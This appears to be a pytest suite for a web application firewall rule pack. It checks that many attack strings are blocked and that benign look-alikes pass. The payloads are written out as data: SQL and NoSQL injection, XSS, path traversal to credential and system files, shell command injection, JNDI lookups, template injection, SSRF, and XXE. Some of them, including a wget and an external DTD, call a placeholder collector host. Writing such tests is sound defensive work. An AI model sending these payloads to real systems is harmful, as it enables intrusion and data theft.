"""Each rule of the core pack has attacks that it sees and near misses that it lets pass."""

from __future__ import annotations

from collections.abc import Mapping
from random import Random
from urllib.parse import quote

import pytest
from engine import Engine
from messages import HOST, Message, get, post
from rule_sets import core

FORM = "application/x-www-form-urlencoded"
VERDICT, SET_UP = 10900, {10000, 10001, 10002, 10003, 10004}
MESSAGE = {10100, 10101, 10110, 10111, 10112, 10113, 10114, 10115, 10410}
ELSEWHERE = {10120, 10205, 10304, 10310, 10403, 10505, 10700}
"""Rules that look neither at the message as a whole nor at the value of an argument."""
ATTACKS: Mapping[int, tuple[bytes, ...]] = {
    10102: (b"a\0b",),
    10103: (b"x\r\nSet-Cookie: a=b", b"x\nLocation: http://collector.example"),
    10104: (b"\r\nRCPT TO: <a@b.example>", b"x\nQUIT\r\n", b"\r\nV1 CAPABILITY"),
    10121: (b"http://a1b2.oast.fun/", b"x@y.burpcollaborator.net"),
    10200: (b"../../a", b"..\\..\\a", b"\xc0\xae\xc0\xae/a", b"..%252f..%252fa"),
    10201: (b"/etc/passwd", b"C:\\windows\\x", b"/x/.git/config", b"/proc/self/environ"),
    10202: (b"..\xc1\x9cetc\xc1\x9cpasswd", b"..0x5cwindows0x5csystem32", b"..%bg%qfboot.ini"),
    10203: (b"..0x2f..0x2fa", b"..\xc1\x1c..\xc1\x1ca", b"\xc0\x5e\xc0\x5e/a"),
    10204: (b"/etc/apache2/sites", b"/var/log/nginx/error.log", b"C:\\inetpub\\a", b"\\\\::1\\c$"),
    10300: (b"1' or '1'='1", b"x' union select 1,2--"),
    10301: (b"1 UNION ALL SELECT 2", b"1;select pg_sleep(9)", b"select @@version"),
    10302: (b" OR 1=0", b"x and 3=3", b"' || 'a"),
    10303: (
        b"1) and json_depth('{}') != 2",
        b"a' ; drop table users",
        b"admin'; -- -",
        b"1 /*!or*/ 1",
    ),
    10311: (b"true, $where: '1'", b"{ $ne: 1 }", b"' && this.password", b"db.a.drop()"),
    10320: (b"(&(uid=a)(!(b=c", b"*(|(mail=*))", b"*)(uid=*))(|(uid=*", b"a:2.5.13.18.1:=1"),
    10400: (b"<img src=x onerror=alert(1)>",),
    10401: (b"<script>alert(1)</script>", b"javascript:alert(1)", b"<b onauxclick=x>"),
    10402: (b"alert.call(null,1)", b"';alert`1`//", b"top['al']('1')", b"(confirm)(1)"),
    10420: (b'<!--#exec cmd="ls" -->', b"<esi:include src=x>"),
    10500: (b";cat /etc/hostname", b"|whoami", b"`id`", b"$(echo a)", b"&& dir C:\\", b";env;"),
    10501: (b"() { :;}; echo a",),
    10502: (b"${jndi:ldap://a/b}", b"${${a:-j}${b:-n}di:x}", b"${\\u006andi:a}"),
    10503: (b"<?php echo 1;", b"eval('a')", b"{{7*7}}", b"phpinfo()", b"$_GET['a']"),
    10504: (b"a$IFS$9b", b"a${#b}", b"$((2*21))"),
    10506: (b"; cat /et'c/pa'ss'wd", b";c\\at /x", b"|getent hosts a.example", b"& reg add x"),
    10510: (
        b"{{7*7}}",
        b"${T(java.lang.System)}",
        b"<#assign a=1>",
        b"{{''.__class__}}",
        b"#{3*3}",
    ),
    10600: (b"http://169.254.169.254/", b"php://filter/a", b"http://localhost:8080/", b"file:///a"),
}
"""Each as an argument of a form."""
NEAR: Mapping[int, tuple[str, ...]] = {
    10103: ("a\r\nb: c", "Location: Berlin"),
    10104: ("From: a\r\nTo: b\r\n\r\nHello", "MAIL FROM home", "quit smoking\n"),
    10121: ("interact. Shall we?", "a coast.fun day"),
    10200: ("wait... / what", "1../2", "a..b/c"),
    10201: ("see etc/passwords.md", "windows and doors", "a.gitignore"),
    10202: ("etc. and hosts", "windows for system32 engineers", "reboot.ini"),
    10203: ("well.. ok / fine", "really?? / yes", "Àé.. où ça"),
    10204: (
        "/home/ann",
        "/users/7",
        "see /etc/hosts",
        "/var/tables",
        "c: drive",
        "//cdn.example/a",
    ),
    10300: ("O'Brien's and Smith's", "it's 1 or 2"),
    10301: ("the union selects a new board", "I sleep (a lot)", "select a user"),
    10302: ("1 or 2 = both", "where is it?", "this || that", "order by phone"),
    10303: ("we update the 'set' and go; -- not", "grant (and length)", "he said 'no'; fine"),
    10311: ("costs $in: 5", "{{ name }}", "the db.users table", "it's && that's"),
    10320: ("f(x) (y = 2", "(a & b)", "smile :) (or = not)", "5 * (3 + 4)"),
    10401: ("JavaScript: an introduction", "a < script", "look on=off"),
    10500: ("cats & dogs", "salt;pepper;cat;ears", "Smith & Echo Ltd", "A & NC - B"),
    10402: ("an alert (red)", "Confirm (yes/no)", "the top [3] (of 5)", "document is ready"),
    10420: ("<!-- include -->", "#exec"),
    10506: ("cat and/or dog", "& rename it", "I'm - well -", "''italic'' - and"),
    10510: ("{{ price }}", "${name}", "a*b + 3*4", "{% if user %}", "class names"),
    10502: ("${HOME} costs $5", "${PORT:-8080}"),
    10503: ("evaluate (this)", "our system (the band)", "{{ name }}"),
    10504: ("costs $(5)", "(IFS) standards"),
    10600: ("data: see below", "the file: a", "https://example.org/localhost"),
}


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(core(), block=True)


def form(value: bytes) -> Message:
    return post("/notes", FORM, b"text=" + quote(value).encode())


@pytest.mark.parametrize("rule", ATTACKS)
def test_a_rule_sees_its_attacks(engine: Engine, rule: int) -> None:
    for attack in ATTACKS[rule]:
        found = engine.ask(form(attack))
        assert found.blocked, attack
        assert rule in found.rules, (attack, found)


@pytest.mark.parametrize("rule", NEAR)
def test_a_rule_lets_near_misses_pass(engine: Engine, rule: int) -> None:
    for text in NEAR[rule]:
        found = engine.ask(form(text.encode()))
        assert rule not in found.rules, (text, found)


def test_rules_about_the_message_itself_see_theirs(engine: Engine) -> None:
    for text in ("..%2f", "%00"):
        assert engine.ask(get(f"/a/{text}..%2fb")).blocked
    broken = engine.ask(post("/", "application/json", b'{"a":'))
    assert (broken.status, broken.rules[0]) == (400, 10100)
    control = engine.ask(Message(b"GET", b"/", ((b"host", b"a"), (b"x", b"a\rb"))))
    assert control.rules == (10101, VERDICT)


def test_bodies_that_no_rule_could_read_are_refused(engine: Engine) -> None:
    two = post("/", FORM, b"a=b", ("Content-Type", "application/json"))
    packed = post("/", FORM, b"a=b", ("Content-Encoding", "gzip"))
    hidden = post("/", f"{FORM}; charset=utf-7", b"a=b")
    twice = post("/", f"{FORM}; charset=utf-8; charset=utf-7", b"a=b")
    # Envoy makes one line of two.
    joined = post("/", f"text/plain,{FORM}", b"a=b")
    found = [engine.ask(one) for one in (two, packed, hidden, twice, joined)]
    assert [(one.status, one.rules[0]) for one in found] == [
        (400, 10110),
        (415, 10111),
        (415, 10112),
        (415, 10113),
        (400, 10115),
    ]
    plain = ("Content-Encoding", "identity")
    assert not engine.ask(post("/", f"{FORM}; charset=UTF-8", b"a=b", plain)).blocked


def _part(head: str, content: bytes = b"a") -> Message:
    body = b"------WebKitFormBoundary7\r\n%s\r\n\r\n%s\r\n------WebKitFormBoundary7--\r\n"
    kind = "multipart/form-data; boundary=----WebKitFormBoundary7"
    return post("/", kind, body % (head.encode(), content))


def test_an_attack_in_a_part_is_seen_however_the_part_is_written(engine: Engine) -> None:
    field = 'Content-Disposition: form-data; name="q"'
    script = b"<script>alert(1)</script>"
    assert not engine.ask(_part(f'{field}; filename="a.html"', script)).blocked
    for head in (
        field,
        f'{field}; filename=""',
        'Content-Disposition: form-data; a="; filename=x"; name="q"',
        f"{field}; filename =x",
        f'Content-Disposition: form-data; filename="x"\r\n{field}',
    ):
        assert engine.ask(_part(head, script)).blocked, head
    for line in (
        "Content-Transfer-Encoding: base64",
        "Content-Type: text/plain; charset=utf-7",
        "Content-Type: text/plain; charset=utf-8; charset=utf-16",
    ):
        found = engine.ask(_part(f"{field}\r\n{line}"))
        assert (found.status, found.rules[0]) == (415, 10114), line
    for line in ("Content-Transfer-Encoding: binary", "Content-Type: text/plain; charset=UTF-8"):
        assert not engine.ask(_part(f"{field}\r\n{line}")).blocked, line


def test_a_type_that_php_takes_for_a_form_is_one(engine: Engine) -> None:
    assert engine.ask(post("/", f"{FORM} x", b"q=<script>alert(1)</script>")).blocked


def test_json_hides_nothing_behind_half_a_pair_or_in_names(engine: Engine) -> None:
    for body in (
        rb'{"q":"\ud800\u003cscript>alert(1)</script>"}',
        b'{"<script>alert(1)</script>":{}}',
        b'{"<script>alert(1)</script>":[]}',
    ):
        assert engine.ask(post("/", "application/json", body)).blocked, body


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
        b'<!DOCTYPE a SYSTEM "http://collector.example/a.dtd"><a/>',
        b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///a"/></a>',
        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-',
        "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>".encode("utf-16"),
    ],
)
def test_entities_in_xml_are_seen(engine: Engine, body: bytes) -> None:
    found = engine.ask(post("/", "application/xml", body))
    assert found.blocked
    assert {10410, 10100} & set(found.rules), found


def test_plain_xml_passes(engine: Engine) -> None:
    for body in (b"<a><include name='b'/></a>", b'<?xml version="1.0"?><!DOCTYPE html><html/>'):
        found = engine.ask(post("/", "text/xml", body))
        assert not found.blocked, (body, found)


def test_rules_about_other_parts_see_theirs(engine: Engine) -> None:
    agent = ("User-Agent", "sqlmap/1.7#stable")
    for rule, attack in (
        (10120, get("/", agent)),
        (10205, get("/app/config.php.bak")),
        (10205, get("/.svn/entries")),
        (10304, get("/?a'%20or%20'1'=1")),
        (10310, get("/?password[$ne]=1")),
        (10310, post("/", "application/json", b'{"a": {"$gt": ""}}')),
        (10403, get("/?%3Cimg%20src%20onerror=x")),
        (10505, get("/a;cat%20/x/y")),
        (10505, get("/", ("X-Name", "a;wget http://collector.example/"))),
        (10700, post("/", "text/plain", b"a ; cat /etc/passwd")),
    ):
        found = engine.ask(attack)
        assert found.blocked, (rule, found)
        assert rule in found.rules, (rule, found)


def test_they_let_near_misses_pass(engine: Engine) -> None:
    for message in (
        get("/", ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:1.0) PHP/8; curl/8.5")),
        get("/src/config.py"),
        get("/downloads/schema.sql"),
        get("/?price[$]=1&sort=$name&$filter=a%20eq%20b"),
        get("/?rock'n'roll=1"),
        get("/cats;dogs"),
        post(
            "/", "text/plain", b"The union wants to select a new board from its members; see /etc."
        ),
        post("/", "text/csv", b"id;name\r\n1;O'Brien & Sons\r\n" * 2000),
        Message(b"POST", b"/", (HOST, (b"Content-Length", b"11")), b"a=bread&c=d"),
    ):
        found = engine.ask(message)
        assert not found.blocked, (message.target, found)


def untyped(body: bytes) -> Message:
    return Message(b"POST", b"/", (HOST, (b"Content-Length", str(len(body)).encode())), body)


def test_a_body_that_says_nothing_of_its_kind_is_read_as_applications_guess(
    engine: Engine,
) -> None:
    form = engine.ask(untyped(b"id=1'%20union%20select%202--"))
    assert form.blocked
    assert 10301 in form.rules
    tree = engine.ask(untyped(b' {"a": [{"b": "1 \\u0075nion select 2"}]}'))
    assert tree.blocked
    assert 10301 in tree.rules
    raw = engine.ask(untyped(b"\0\xff; cat /etc/passwd"))
    assert raw.rules == (10700, VERDICT)


def test_bytes_that_say_nothing_of_their_kind_pass(engine: Engine) -> None:
    random = Random(3)  # noqa: S311  the same everywhere
    for size in (100, 10_000, 400_000):
        assert not engine.ask(untyped(random.randbytes(size))).blocked
    assert not engine.ask(untyped(b"\x0a\x05Hello\x12\x00")).blocked


def test_every_rule_is_tested() -> None:
    from ostiary_guard import waf  # noqa: PLC0415  it is not everywhere

    every = {rule["id"] for rule in waf.RuleSet(core=True).rules}
    assert every == {*ATTACKS, *SET_UP, VERDICT, *MESSAGE, *ELSEWHERE}
